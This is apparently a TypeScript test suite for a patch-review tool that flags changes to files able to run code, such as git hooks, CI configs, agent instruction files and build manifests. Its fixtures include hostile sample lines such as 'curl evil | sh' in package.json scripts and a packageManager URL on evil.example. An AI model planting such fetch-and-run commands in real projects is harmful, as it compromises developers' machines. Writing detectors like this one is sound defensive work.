import assert from 'node:assert/strict'
import { describe, test } from 'node:test'

import kleur from 'kleur'

import { parsePatch, type FilePatch } from '../../lib/patch/parse.ts'
import { touchesScripts } from '../../lib/patch/manifest-risk.ts'
import { changeRiskFlags, flagLines, riskFlags, riskLines } from '../../lib/patch/risk.ts'
import { WHY, WHY_ORDER, type Why } from '../../lib/patch/risk-rules.ts'

kleur.enabled = false

/** A one-line modification of `path`, as git writes it. */
function modified(path: string): FilePatch {
  return parsePatch(
    `diff --git a/${path} b/${path}\nindex 1111111..2222222 100644\n--- a/${path}\n+++ b/${path}\n@@ -1 +1 @@\n-old\n+new\n`,
  )[0]
}

function packageJson(hunk: string, kind: 'modified' | 'added' = 'modified'): FilePatch {
  const head =
    kind === 'added'
      ? 'diff --git a/package.json b/package.json\nnew file mode 100644\nindex 0000000..2222222\n--- /dev/null\n+++ b/package.json\n'
      : 'diff --git a/package.json b/package.json\nindex 1111111..2222222 100644\n--- a/package.json\n+++ b/package.json\n'
  return parsePatch(head + hunk)[0]
}

/**
 * Each class of rule with the real names its tools read, at the root and nested (tools look in every package of a
 * monorepo), and near misses: names that look alike but that no tool runs.
 */
const CLASSES: Array<{ why: Why; flagged: string[]; harmless: string[] }> = [
  {
    why: WHY.agentInstructions,
    flagged: [
      'CLAUDE.md',
      'packages/api/CLAUDE.md',
      'CLAUDE.local.md',
      'AGENTS.md',
      'services/web/AGENTS.md',
      'AGENTS.override.md',
      'GEMINI.md',
      'QWEN.md',
      '.cursorrules',
      '.windsurfrules',
      '.clinerules',
      '.roorules',
      '.goosehints',
      '.rules',
      '.github/copilot-instructions.md',
      '.github/instructions/ts.instructions.md',
      '.github/prompts/release.prompt.md',
      '.github/chatmodes/plan.chatmode.md',
      '.github/agents/reviewer.agent.md',
      'docs/api.instructions.md',
      '.claude/commands/deploy.md',
      '.claude/agents/reviewer.md',
      '.claude/skills/pdf/SKILL.md',
      '.claude/CLAUDE.md',
      '.claude/rules/style.md',
      'app/.claude/commands/x.md',
      '.cursor/rules/style.md',
      '.clinerules/01-style.md',
      '.windsurf/rules/base.md',
      '.gemini/GEMINI.md',
    ],
    harmless: [
      'README.md',
      'docs/claude.txt',
      'docs/CLAUDE-notes.md',
      'src/agents.ts',
      'claude/notes.md',
      'docs/instructions.txt',
      'src/prompt.ts',
    ],
  },
  {
    why: WHY.agentSettings,
    flagged: [
      '.claude/settings.json',
      '.claude/settings.local.json',
      '.claude/hooks/pre.sh',
      'sub/.claude/settings.json',
      '.mcp.json',
      'tools/.mcp.json',
      '.lsp.json',
      '.cursor/mcp.json',
      '.cursor/hooks.json',
      '.cursor/environment.json',
      '.gemini/settings.json',
      '.gemini/commands/fix.toml',
      '.vscode/mcp.json',
      '.codex/config.toml',
      '.aider.conf.yml',
      'opencode.json',
      '.continue/config.yaml',
      '.roo/mcp.json',
      '.amazonq/rules/x.json',
      '.kiro/settings/mcp.json',
    ],
    harmless: ['claude/settings.json', 'src/mcp.ts', 'config/mcp.json', 'settings.json', 'lib/claude.ts'],
  },
  {
    why: WHY.gitHook,
    flagged: [
      '.husky/pre-commit',
      '.husky/_/husky.sh',
      '.githooks/post-checkout',
      'tools/.githooks/pre-push',
      '.git-hooks/pre-commit',
      '.pre-commit-config.yaml',
      'lefthook.yml',
      '.lefthook.yml',
      'lefthook-local.yml',
      '.lefthook/pre-commit/lint.sh',
      '.lintstagedrc',
      '.lintstagedrc.json',
      'lint-staged.config.js',
      'commitlint.config.js',
      '.simple-git-hooks.json',
      '.huskyrc',
    ],
    harmless: ['src/hooks/useUser.ts', 'hooks/useFetch.ts', 'docs/pre-commit.md', 'lib/husky.ts', '.pre-commit-hooks.yaml'],
  },
  {
    why: WHY.gitAttributes,
    flagged: ['.gitattributes', 'src/.gitattributes'],
    harmless: ['lib/gitattributes.ts', '.gitignore', 'src/.gitignore'],
  },
  { why: WHY.submodules, flagged: ['.gitmodules'], harmless: ['sub/.gitmodules', 'docs/gitmodules.md'] },
  { why: WHY.gitConfig, flagged: ['.lfsconfig', 'assets/.lfsconfig'], harmless: ['lfsconfig.md'] },
  {
    why: WHY.editor,
    flagged: [
      '.vscode/tasks.json',
      '.vscode/settings.json',
      '.vscode/launch.json',
      '.VSCode/Tasks.json', // the same file on a case-insensitive disk
      'web/.vscode/tasks.json',
      'realm.code-workspace',
      'app.sublime-project',
      '.zed/tasks.json',
      '.zed/settings.json',
      '.helix/languages.toml',
      '.fleet/run.json',
      '.dir-locals.el',
      '.exrc',
      '.nvim.lua',
      '.lazy.lua',
    ],
    harmless: ['.vscode/extensions.json', 'vscode/tasks.json', 'docs/settings.json', 'src/tasks.ts', '.editorconfig'],
  },
  {
    why: WHY.ideRun,
    flagged: [
      '.idea/workspace.xml',
      '.idea/runConfigurations/App.xml',
      '.idea/externalTools.xml',
      '.run/App.run.xml',
      'config/Server.run.xml',
      'src/App/Properties/launchSettings.json',
    ],
    harmless: ['idea/notes.md', 'src/run.ts', 'scripts/run.sh'],
  },
  {
    why: WHY.devContainer,
    flagged: ['.devcontainer/devcontainer.json', '.devcontainer/Dockerfile', '.devcontainer.json', '.gitpod.yml'],
    harmless: ['devcontainer.md', 'Dockerfile', 'docker/Dockerfile'],
  },
  { why: WHY.direnv, flagged: ['.envrc', 'services/api/.envrc'], harmless: ['envrc.example', 'docs/envrc.md'] },
  {
    why: WHY.envManager,
    flagged: [
      'mise.toml',
      '.mise.toml',
      'mise.local.toml',
      '.config/mise.toml',
      '.config/mise/config.toml',
      '.mise/config.toml',
      'sub/mise.toml',
      '.tool-versions',
      'flake.nix',
      'shell.nix',
      'default.nix',
      'devenv.nix',
      'devbox.json',
      'pixi.toml',
      '.prototools',
      '.flox/env/manifest.toml',
    ],
    harmless: ['.nvmrc', '.node-version', '.python-version', '.ruby-version', 'nix/default.nix.md', 'pkgs/lib/default.nix'],
  },
  {
    why: WHY.envFile,
    flagged: ['.env', '.env.local', '.env.production', 'apps/web/.env.development.local'],
    harmless: ['.env.example', '.env.sample', '.env.template', 'apps/web/.env.local.example', 'src/env.ts', 'docs/.env.md.example'],
  },
  {
    why: WHY.toolchain,
    flagged: [
      'rust-toolchain',
      'rust-toolchain.toml',
      'crates/x/rust-toolchain.toml',
      'gradlew',
      'gradlew.bat',
      'gradle/wrapper/gradle-wrapper.properties',
      'gradle/wrapper/gradle-wrapper.jar',
      'mvnw',
      'mvnw.cmd',
      '.mvn/wrapper/maven-wrapper.properties',
      '.mvn/wrapper/MavenWrapperDownloader.java',
      '.bazelversion',
      '.bazeliskrc',
      'global.json',
    ],
    harmless: ['go.mod', 'go.sum', 'src/toolchain.rs', 'gradle/libs.versions.toml'],
  },
  {
    why: WHY.packageManager,
    flagged: [
      '.npmrc',
      'packages/a/.npmrc',
      '.yarnrc',
      '.yarnrc.yml',
      '.yarn/releases/yarn-4.1.0.cjs',
      '.yarn/plugins/@yarnpkg/plugin-workspace-tools.cjs',
      '.yarn/sdks/typescript/lib/tsserver.js',
      '.pnp.cjs',
      '.pnp.loader.mjs',
      '.pnpmfile.cjs',
      'pnpm-workspace.yaml',
      'bunfig.toml',
      'nuget.config',
      'NuGet.Config',
      'uv.toml',
      '.cargo/config.toml',
      '.cargo/config',
      'crates/x/.cargo/config.toml',
      '.config/dotnet-tools.json',
    ],
    harmless: [
      'Pipfile',
      'Pipfile.lock',
      'package-lock.json',
      'yarn.lock',
      'pnpm-lock.yaml',
      'Cargo.lock',
      'poetry.lock',
      'requirements.txt',
      '.yarn/cache/x.zip',
      'cargo/config.toml',
      '.cargo/credentials.md',
    ],
  },
  {
    why: WHY.build,
    flagged: [
      'setup.py',
      'libs/core/setup.py',
      'setup.cfg',
      'hatch_build.py',
      'build.rs',
      'crates/sys/build.rs',
      'build.gradle',
      'build.gradle.kts',
      'app/build.gradle.kts',
      'settings.gradle',
      'settings.gradle.kts',
      'gradle.properties',
      'gradle/publish.gradle',
      'buildSrc/src/main/kotlin/conventions.gradle.kts',
      'buildSrc/src/main/kotlin/Deps.kt',
      'pom.xml',
      'module/pom.xml',
      '.mvn/jvm.config',
      '.mvn/maven.config',
      '.mvn/extensions.xml',
      'build.sbt',
      'project/plugins.sbt',
      'project/build.properties',
      'Directory.Build.props',
      'Directory.Build.targets',
      'src/Directory.Packages.props',
      'src/App/App.csproj',
      'Lib.fsproj',
      'build/common.targets',
      'CMakeLists.txt',
      'cmake/deps.cmake',
      'meson.build',
      'configure.ac',
      'binding.gyp',
      'build.zig',
      '.bazelrc',
      'WORKSPACE',
      'MODULE.bazel',
      'tools/defs.bzl',
      'Gemfile',
      'mygem.gemspec',
      'rust-analyzer.toml',
      'hatch.toml',
      'Makefile.PL',
      'mix.exs',
      'apps/web/mix.exs',
      'rebar.config',
      'Setup.hs',
      'Package.swift',
      'config.nims',
      'app.nimble',
      'conanfile.py',
    ],
    harmless: [
      'src/build.ts',
      'scripts/build.mjs',
      'build/index.html',
      'docs/setup.md',
      'src/setup_utils.py',
      'Gemfile.lock',
      'src/main.rs',
      'pom.md',
      'plugin/extensions.xml',
      'src/mix.ex',
      'lib/app.nim',
    ],
  },
  {
    why: WHY.interpreter,
    flagged: [
      'sitecustomize.py',
      'src/usercustomize.py',
      'site-packages/evil.pth',
      'x.pth',
      '.pdbrc',
      '.irbrc',
      '.pryrc',
      '.Rprofile',
      'analysis/.Rprofile',
      '.iex.exs',
      '.ghci',
    ],
    harmless: ['src/site.py', 'src/customize.py', 'docs/pth.md', 'src/path.py'],
  },
  {
    why: WHY.testRunner,
    flagged: [
      'conftest.py',
      'tests/unit/conftest.py',
      'pytest.ini',
      '.pytest.ini',
      'pytest.toml',
      'tox.ini',
      'noxfile.py',
      '.rspec',
      'phpunit.xml',
      'phpunit.xml.dist',
      'jest.config.js',
      'jest.config.ts',
      'packages/ui/vitest.config.mts',
      'vitest.workspace.ts',
      'playwright.config.ts',
      'cypress.config.js',
      'karma.conf.js',
      '.mocharc.yml',
      '.mocharc.json',
      '.nycrc',
      'src/setupTests.js',
    ],
    harmless: [
      'tests/test_app.py',
      'src/conftest_helpers.py',
      'src/jest.ts',
      'test/mocha.test.ts',
      'tests/fixtures/pytest.txt',
      'docs/tox.md',
    ],
  },
  {
    why: WHY.toolConfig,
    flagged: [
      'eslint.config.mjs',
      'packages/a/eslint.config.js',
      '.eslintrc',
      '.eslintrc.json',
      '.eslintrc.cjs',
      '.prettierrc',
      '.prettierrc.yaml',
      'prettier.config.js',
      'babel.config.js',
      '.babelrc',
      'vite.config.ts',
      'tailwind.config.js',
      'postcss.config.cjs',
      'svelte.config.js',
      'nodemon.json',
      '.swcrc',
      'nx.json',
      '.pylintrc',
      'mypy.ini',
      '.flake8',
      '.coveragerc',
      '.rubocop.yml',
      'phpstan.neon',
      '.php-cs-fixer.dist.php',
      '.golangci.yml',
      'ansible.cfg',
      'deploy/ansible.cfg',
    ],
    harmless: [
      'src/eslint-rules.ts',
      'src/config.ts',
      'biome.json',
      'ruff.toml',
      '.editorconfig',
      'tsconfig.json',
      'docs/vite.md',
      '.prettierignore',
      '.eslintignore',
    ],
  },
  {
    why: WHY.makefile,
    flagged: ['Makefile', 'makefile', 'sub/GNUmakefile', 'build/rules.mk', 'common.mak'],
    harmless: ['src/Makefile.md', 'docs/makefile.txt', 'src/make.ts'],
  },
  {
    why: WHY.taskRunner,
    flagged: [
      'justfile',
      '.justfile',
      'Justfile',
      'tasks/deploy.just',
      'Taskfile.yml',
      'Taskfile.yaml',
      'Rakefile',
      'lib/tasks/db.rake',
      'gulpfile.js',
      'Gruntfile.js',
      'Earthfile',
      'Tiltfile',
      'Procfile',
      'moon.yml',
      '.moon/workspace.yml',
    ],
    harmless: ['src/tasks.ts', 'tasks/README.md', 'src/gulp.ts', 'lib/rake.rb'],
  },
  {
    why: WHY.ciWorkflow,
    flagged: [
      '.github/workflows/ci.yml',
      '.github/actions/setup/action.yml',
      '.gitea/workflows/test.yaml',
      '.forgejo/workflows/ci.yml',
      '.github/dependabot.yml',
    ],
    harmless: [
      '.github/ISSUE_TEMPLATE/bug.md',
      'docs/.github/workflows.md',
      'sub/.github/workflows/ci.yml',
      '.github/CODEOWNERS',
      '.github/FUNDING.yml',
    ],
  },
  {
    why: WHY.ci,
    flagged: [
      '.gitlab-ci.yml',
      '.gitlab/ci/test.yml',
      '.circleci/config.yml',
      'Jenkinsfile',
      'ci/Jenkinsfile',
      '.travis.yml',
      'azure-pipelines.yml',
      'bitbucket-pipelines.yml',
      '.buildkite/pipeline.yml',
      '.drone.yml',
      '.woodpecker.yml',
      '.woodpecker/build.yml',
      'appveyor.yml',
      'buildspec.yml',
      'cloudbuild.yaml',
    ],
    harmless: ['docs/ci.md', 'src/jenkins.ts', 'sub/.circleci/config.yml'],
  },
  {
    why: WHY.compose,
    flagged: ['docker-compose.yml', 'docker-compose.override.yml', 'compose.yaml', 'deploy/compose.yml'],
    harmless: ['docs/compose.md', 'src/compose.ts'],
  },
  { why: WHY.webServer, flagged: ['.htaccess', 'public/.htaccess', 'public/.user.ini'], harmless: ['docs/htaccess.txt'] },
]

describe('risk flags: each class, with the names its tools read', () => {
  for (const { why, flagged, harmless } of CLASSES) {
    describe(why, () => {
      for (const path of flagged) test(`flags ${path}`, () => assert.deepEqual(riskFlags([modified(path)]), [{ path, why }]))
      for (const path of harmless) test(`does not flag ${path}`, () => assert.deepEqual(riskFlags([modified(path)]), []))
    })
  }

  test('ordinary source files are never flagged', () => {
    const source = [
      'src/app.py',
      'lib/index.ts',
      'README.md',
      'src/main.go',
      'cmd/tool/main.go',
      'src/lib.rs',
      'app/models/user.rb',
      'src/Main.java',
      'index.html',
      'styles/site.css',
      'docs/guide.md',
      'LICENSE',
      'test/app.test.ts',
      'Program.cs',
      'src/Controller.php',
    ]
    assert.deepEqual(riskFlags(source.map(modified)), [])
  })

  test('every reason the rules give belongs to a class the review orders', () => {
    for (const why of Object.values(WHY)) assert.ok(WHY_ORDER.has(why), why)
    assert.equal(new Set(Object.values(WHY)).size, Object.values(WHY).length, 'reasons are distinct')
  })
})

describe('risk flags', () => {
  test('a rename is flagged by either of its names', () => {
    const [file] = parsePatch(
      'diff --git a/ci.yml b/.github/workflows/ci.yml\nsimilarity index 100%\nrename from ci.yml\nrename to .github/workflows/ci.yml\n',
    )
    assert.deepEqual(riskFlags([file]), [{ path: '.github/workflows/ci.yml', why: 'CI workflow' }])
    const [out] = parsePatch(
      'diff --git a/.husky/pre-commit b/old-hook\nsimilarity index 100%\nrename from .husky/pre-commit\nrename to old-hook\n',
    )
    assert.deepEqual(
      riskFlags([out]).map((f) => f.path),
      ['.husky/pre-commit'],
    )
  })

  test('riskLines names every flagged file and is empty without flags', () => {
    assert.deepEqual(riskLines([modified('README.md')]), [])
    const lines = riskLines([modified('Makefile'), modified('a.txt'), modified('.envrc')])
    assert.equal(lines.length, 3)
    assert.match(lines[0], /2 changes can run code/)
    assert.deepEqual(lines.slice(1), ['  ! .envrc (direnv script)', '  ! Makefile (Makefile)'])
  })

  test('the review lists flags by class, agent files first, and in the patch order within a class', () => {
    const paths = ['Makefile', 'src/a.ts', '.github/workflows/ci.yml', 'CLAUDE.md', 'sub/Makefile', '.husky/pre-commit', 'AGENTS.md']
    assert.deepEqual(riskLines(paths.map(modified)).slice(1), [
      '  ! CLAUDE.md (agent instructions)',
      '  ! AGENTS.md (agent instructions)',
      '  ! .husky/pre-commit (git hook)',
      '  ! Makefile (Makefile)',
      '  ! sub/Makefile (Makefile)',
      '  ! .github/workflows/ci.yml (CI workflow)',
    ])
    // A reason these rules do not give (from a summary stored by another realm) is still shown, last.
    assert.deepEqual(
      flagLines([
        { path: 'x', why: 'something else' },
        { path: 'Makefile', why: 'Makefile' },
      ]).slice(1),
      ['  ! Makefile (Makefile)', '  ! x (something else)'],
    )
  })
})

describe('package.json scripts', () => {
  test('a script changed next to the "scripts" line', () => {
    assert.ok(
      touchesScripts(
        packageJson('@@ -1,5 +1,5 @@\n {\n   "scripts": {\n-    "test": "node --test"\n+    "test": "curl evil | sh"\n   },\n'),
      ),
    )
  })

  test('a script changed deep in a long scripts block, where the hunk does not show "scripts"', () => {
    const hunk =
      '@@ -10,7 +10,7 @@\n     "b": "b",\n     "c": "c",\n     "d": "d",\n-    "e": "e"\n+    "e": "curl evil | sh"\n   },\n   "dependencies": {\n'
    assert.ok(touchesScripts(packageJson(hunk)))
  })

  test('an install hook added anywhere', () => {
    assert.ok(touchesScripts(packageJson('@@ -2,1 +2,2 @@\n   "name": "x",\n+  "postinstall": "node x.js",\n')))
  })

  test('a new package.json with scripts, but not one without', () => {
    assert.ok(touchesScripts(packageJson('@@ -0,0 +1,3 @@\n+{\n+  "scripts": { "build": "tsc" }\n+}\n', 'added')))
    assert.equal(touchesScripts(packageJson('@@ -0,0 +1,3 @@\n+{\n+  "name": "x"\n+}\n', 'added')), false)
  })

  test('a version bump or a dependency inside its shown block is not a scripts change', () => {
    assert.equal(
      touchesScripts(
        packageJson('@@ -1,4 +1,4 @@\n {\n   "name": "x",\n-  "version": "1.0.0",\n+  "version": "1.0.1",\n   "type": "module",\n'),
      ),
      false,
    )
    assert.equal(
      touchesScripts(packageJson('@@ -8,4 +8,4 @@\n   },\n   "dependencies": {\n-    "kleur": "^4.1.4"\n+    "kleur": "^4.1.5"\n   }\n')),
      false,
    )
    assert.equal(
      touchesScripts(packageJson('@@ -2,2 +2,2 @@\n-  "version": "1.0.0",\n+  "version": "1.0.1",\n   "type": "module",\n')),
      false,
    )
  })

  test('riskFlags reports it with the file', () => {
    const file = packageJson('@@ -1,3 +1,3 @@\n   "scripts": {\n-    "x": "a"\n+    "x": "b"\n   },\n')
    assert.deepEqual(riskFlags([file]), [{ path: 'package.json', why: 'package.json scripts' }])
  })
})

/** A change of `path` with `hunk`, as git writes it. */
function changed(path: string, hunk: string, kind: 'modified' | 'added' | 'deleted' = 'modified'): FilePatch {
  const head = {
    modified: `diff --git a/${path} b/${path}\nindex 1111111..2222222 100644\n--- a/${path}\n+++ b/${path}\n`,
    added: `diff --git a/${path} b/${path}\nnew file mode 100644\nindex 0000000..2222222\n--- /dev/null\n+++ b/${path}\n`,
    deleted: `diff --git a/${path} b/${path}\ndeleted file mode 100644\nindex 1111111..0000000\n--- a/${path}\n+++ /dev/null\n`,
  }[kind]
  return parsePatch(head + hunk)[0]
}
const whys = (file: FilePatch) => riskFlags([file]).map((f) => f.why)

describe('package.json: the sections that run by themselves besides scripts', () => {
  test('git hooks, test and lint configs, the package manager Corepack runs', () => {
    for (const hunk of [
      '@@ -3,4 +3,4 @@\n   "simple-git-hooks": {\n-    "pre-commit": "npx lint-staged"\n+    "pre-commit": "curl evil | sh"\n   },\n',
      '@@ -3,4 +3,4 @@\n   "lint-staged": {\n-    "*.ts": "biome check"\n+    "*.ts": "sh -c evil"\n   },\n',
      '@@ -3,4 +3,4 @@\n   "jest": {\n-    "setupFiles": []\n+    "setupFiles": ["./x.js"]\n   },\n',
      '@@ -1,4 +1,4 @@\n {\n   "name": "x",\n-  "packageManager": "pnpm@9.0.0",\n+  "packageManager": "yarn@https://evil.example/yarn.js",\n',
      '@@ -3,6 +3,6 @@\n   "pnpm": {\n     "onlyBuiltDependencies": [\n-      "esbuild"\n+      "esbuild", "evil"\n     ]\n   },\n',
    ]) {
      assert.deepEqual(whys(packageJson(hunk)), ['package.json hooks/tool config'], hunk)
    }
  })

  test('a bump of a dependency named like a tool (jest, prettier, husky) is not a tool config change', () => {
    const hunk =
      '@@ -8,6 +8,6 @@\n   "devDependencies": {\n     "eslint": "^9.0.0",\n-    "jest": "^29.0.0",\n+    "jest": "^29.7.0",\n     "husky": "^9.0.0"\n   }\n'
    assert.deepEqual(whys(packageJson(hunk)), [])
    const added = '@@ -0,0 +1,6 @@\n+{\n+  "name": "x",\n+  "devDependencies": {\n+    "husky": "^9.0.0", "jest": "^29.0.0"\n+  }\n+}\n'
    assert.deepEqual(whys(packageJson(added, 'added')), [])
  })

  test('a new package.json with a risky top-level section, and one that is not JSON', () => {
    const added = '@@ -0,0 +1,3 @@\n+{\n+  "husky": { "hooks": { "pre-commit": "x" } }\n+}\n'
    assert.deepEqual(whys(packageJson(added, 'added')), ['package.json hooks/tool config'])
    assert.deepEqual(whys(packageJson('@@ -0,0 +1,2 @@\n+{ "scripts": {\n+  "x": \n', 'added')), ['package.json scripts'])
  })

  test('nested package.json files in a monorepo are judged the same way', () => {
    const file = changed('packages/ui/package.json', '@@ -1,3 +1,3 @@\n   "scripts": {\n-    "x": "a"\n+    "x": "b"\n   },\n')
    assert.deepEqual(riskFlags([file]), [{ path: 'packages/ui/package.json', why: 'package.json scripts' }])
  })
})

describe('composer.json scripts and plugins', () => {
  test('a changed script or allowed plugin is flagged, a dependency bump is not', () => {
    const script =
      '@@ -10,4 +10,4 @@\n     "scripts": {\n-        "post-install-cmd": "php a.php"\n+        "post-install-cmd": "php evil.php"\n     },\n'
    assert.deepEqual(whys(changed('composer.json', script)), ['composer.json scripts/plugins'])
    const plugin =
      '@@ -10,5 +10,6 @@\n     "config": {\n         "allow-plugins": {\n+            "evil/plugin": true,\n             "composer/installers": true\n'
    assert.deepEqual(whys(changed('composer.json', plugin)), ['composer.json scripts/plugins'])
    const bump = '@@ -5,4 +5,4 @@\n     "require": {\n-        "monolog/monolog": "^2.0"\n+        "monolog/monolog": "^3.0"\n     },\n'
    assert.deepEqual(whys(changed('composer.json', bump)), [])
  })
})

describe('pyproject.toml: the tables that run code', () => {
  const py = (hunk: string, kind?: 'added') => whys(changed('pyproject.toml', hunk, kind))
  test('the build backend, pytest, mypy and entry points are flagged', () => {
    assert.deepEqual(
      py('@@ -1,3 +1,3 @@\n [build-system]\n-build-backend = "hatchling.build"\n+build-backend = "backend"\n backend-path = ["."]\n'),
      ['pyproject.toml build/tool config'],
    )
    assert.deepEqual(py('@@ -20,3 +20,3 @@\n [tool.pytest.ini_options]\n-addopts = "-q"\n+addopts = "-q -p evil"\n'), [
      'pyproject.toml build/tool config',
    ])
    assert.deepEqual(py('@@ -20,2 +20,3 @@\n [tool.mypy]\n+plugins = ["evil"]\n strict = true\n'), ['pyproject.toml build/tool config'])
    assert.deepEqual(py('@@ -30,0 +30,2 @@\n+[project.entry-points.pytest11]\n+evil = "pkg.evil"\n'), ['pyproject.toml build/tool config'])
  })

  test('dependencies, metadata and ruff settings are not, and a line the hunk cannot place is', () => {
    assert.deepEqual(py('@@ -1,4 +1,4 @@\n [project]\n name = "x"\n-version = "1.0"\n+version = "1.1"\n'), [])
    assert.deepEqual(py('@@ -8,4 +8,4 @@\n [project.optional-dependencies]\n test = [\n-  "pytest>=7",\n+  "pytest>=8",\n'), [])
    assert.deepEqual(py('@@ -40,3 +40,3 @@\n [tool.ruff.lint]\n-select = ["E"]\n+select = ["E", "F"]\n'), [])
    assert.deepEqual(py('@@ -40,3 +40,3 @@\n   "a",\n-  "b",\n+  "c",\n   "d",\n'), ['pyproject.toml build/tool config'])
  })

  test('a new pyproject.toml is flagged when it has a table that may run code', () => {
    assert.deepEqual(py('@@ -0,0 +1,3 @@\n+[project]\n+name = "x"\n+dependencies = ["requests"]\n', 'added'), [])
    assert.deepEqual(py('@@ -0,0 +1,4 @@\n+[project]\n+name = "x"\n+[build-system]\n+requires = ["setuptools"]\n', 'added'), [
      'pyproject.toml build/tool config',
    ])
  })
})

describe('Cargo.toml: a build script or a proc macro, not a dependency bump', () => {
  const cargo = (hunk: string) => whys(changed('crates/x/Cargo.toml', hunk))
  test('flagged: [package] build, [lib] proc-macro', () => {
    assert.deepEqual(cargo('@@ -1,3 +1,4 @@\n [package]\n name = "x"\n+build = "src/gen.rs"\n edition = "2021"\n'), [
      'Cargo.toml build settings',
    ])
    assert.deepEqual(cargo('@@ -8,2 +8,2 @@\n [lib]\n-proc-macro = false\n+proc-macro = true\n'), ['Cargo.toml build settings'])
  })
  test('not flagged: dependencies, target dependencies, features', () => {
    assert.deepEqual(cargo('@@ -10,3 +10,3 @@\n [dependencies]\n-serde = "1.0.100"\n+serde = "1.0.200"\n'), [])
    assert.deepEqual(cargo('@@ -20,2 +20,2 @@\n [target.\'cfg(unix)\'.dependencies]\n-libc = "0.2.1"\n+libc = "0.2.2"\n'), [])
    assert.deepEqual(cargo('@@ -30,2 +30,2 @@\n [features]\n-default = []\n+default = ["std"]\n'), [])
  })
})

describe('flags of a change whose text is read only when needed', () => {
  test('the text is asked for only for a manifest, and the flags are the same', () => {
    const manifest = packageJson('@@ -1,3 +1,3 @@\n   "scripts": {\n-    "x": "a"\n+    "x": "b"\n   },\n')
    for (const file of [modified('Makefile'), modified('src/a.ts'), modified('.github/workflows/ci.yml'), manifest]) {
      let asked = 0
      const flags = changeRiskFlags(file, () => {
        asked++
        return file.text
      })
      assert.deepEqual(flags, riskFlags([file]))
      assert.equal(asked, file === manifest ? 1 : 0, file.path)
    }
  })

  test('a rename is judged by both of its paths', () => {
    const [file] = parsePatch('diff --git a/.envrc b/envrc.txt\nsimilarity index 100%\nrename from .envrc\nrename to envrc.txt\n')
    assert.deepEqual(riskFlags([file]), [{ path: '.envrc', why: 'direnv script' }])
    assert.deepEqual(flagLines(riskFlags([file])), riskLines([file]))
  })
})
